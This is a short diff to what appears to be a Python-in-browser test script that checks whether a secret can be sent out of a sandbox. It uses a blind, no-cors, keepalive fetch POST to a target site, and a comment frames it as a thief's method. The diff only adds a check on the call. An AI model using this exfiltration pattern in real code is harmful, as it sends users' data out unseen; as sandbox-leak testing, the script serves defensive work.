@@ -1,8 +1,8 @@
 # Send a secret and ask for no answer: a thief needs none.
 import js
-from target import SITE, options, uncover
+from target import SITE, answered, options, uncover
 
 uncover("fetch")
 letter = options(method="POST", mode="no-cors", body="a secret", keepalive=True)
-await js.fetch(SITE + "?escape=blind", letter)
+await answered(js.fetch(SITE + "?escape=blind", letter))
 print("sent")
